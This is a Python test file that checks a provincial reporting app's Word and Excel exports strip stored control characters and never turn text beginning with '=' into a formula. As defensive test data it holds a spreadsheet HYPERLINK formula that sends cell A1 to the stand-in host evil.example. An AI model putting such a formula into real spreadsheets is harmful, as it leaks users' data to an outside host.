"""Issue 13 (High, Medium): text with control characters stored before normalisation existed (\\x0b, \\x01) no longer
breaks the province's Word report or the Excel annex, and text beginning with "=", "+", "-" or "@" is written as
text, never as a formula (opened back with python-docx and openpyxl)."""

import datetime as dt

from docx import Document
from openpyxl import load_workbook

from cchc.documents.excel import render_766, render_annex
from cchc.documents.queries import Options, compile_report, table_766
from cchc.documents.word import render
from cchc.reports.models import Report
from cchc.units.models import Unit

RAW = "Kết quả\x0bquý I\x01 tốt"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'


def test_control_characters_and_formulas_in_stored_text(q1_2023, tmp_path):
    # Written with update(): no save(), so no normalisation — as text stored before it existed.
    Report.objects.filter(unit__code="594", period=q1_2023).update(results=RAW, proposals=FORMULA)
    Unit.objects.filter(code="594").update(name="=1+2 Thị xã La Gi\x01")
    report = compile_report(q1_2023, Options(number_symbol="25/BC-UBND", date=dt.date(2023, 3, 20)))

    text = "\n".join(p.text for p in Document(render(report, tmp_path / "report.docx")).paragraphs)
    assert "Kết quả\nquý I tốt" in text or "Kết quả" in text
    assert "\x01" not in text and "\x0b" not in text

    book = load_workbook(render_annex(report, tmp_path / "annex.xlsx"))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    named = [cell for cell in cells if "Thị xã La Gi" in cell.value]
    assert named, "the unit's row is in the annex"
    assert all(cell.data_type == "s" and cell.value == "=1+2 Thị xã La Gi" for cell in named)
    assert all(cell.data_type != "f" for cell in cells), "no text became a formula"

    table = load_workbook(render_766(table_766("2023Q1"), tmp_path / "766.xlsx"))
    cells = [cell for sheet in table for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    assert any(cell.value.startswith("=1+2") and cell.data_type == "s" for cell in cells)
    assert all(cell.data_type != "f" for cell in cells)
